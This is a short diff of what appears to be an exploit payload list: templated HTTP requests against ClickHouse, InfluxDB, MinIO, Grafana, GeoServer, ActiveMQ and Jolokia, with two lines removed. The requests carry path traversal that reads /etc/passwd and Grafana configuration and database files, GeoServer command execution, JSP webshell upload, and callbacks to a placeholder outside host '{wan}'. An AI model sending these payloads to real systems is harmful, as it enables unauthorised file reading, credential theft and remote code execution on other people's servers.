@@ -202,7 +202,6 @@ GET /?query=SELECT%20*%20FROM%20file('/etc/passwd')&user=default
 GET /?query=SELECT%20*%20FROM%20url('http://{wan}/',CSV,'x%20String')
 POST /write?db=..%2f..%2fetc&u=admin&influx=eyJhbGciOiJIUzI1NiJ9{hex}
 GET /minio/webrpc?X-Amz-Credential=minio%2Fbootstrap%2Fv1%2Fverify&update=http://{wan}/{word}.sha256sum
-POST /minio/bootstrap/v1/verify
 POST /minio/admin/v3/update?updateURL=http%3A%2F%2F{wan}%2F{word}%2Fminio.sha256sum
 GET /api/datasources/proxy/1/..%2f..%2f..%2fadmin/users?X-WEBAUTH-USER=admin
 GET /public/plugins/<alertlist|graph|mysql|text|table|prometheus|elasticsearch|welcome|gettingstarted>/../../../../../../../../<etc/passwd|etc/grafana/grafana.ini|var/lib/grafana/grafana.db|conf/defaults.ini>
@@ -211,7 +210,6 @@ GET /render/d-solo/..%2f..%2f..%2fetc/passwd?panelId=1
 POST /geoserver/wfs?request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'{cmd}')
 GET /geoserver/ows?service=WMS&request=GetMap&sld=http://{strange}/{word}.xml&CQL_FILTER=strStartsWith(x,'''')=true
 POST /fileserver/..%5cadmin%5c{word}.jsp
-PUT /fileserver/{word}.txt 204,401
 MOVE /fileserver/{word}.txt 204
 POST /api/message/mybroker?type=queue&exec=setLogFile(%3C%25Runtime)
 POST /api/jolokia?type=EXEC&mbean=jdk.management.jfr:type=FlightRecorder&operation=newRecording&arguments={word}
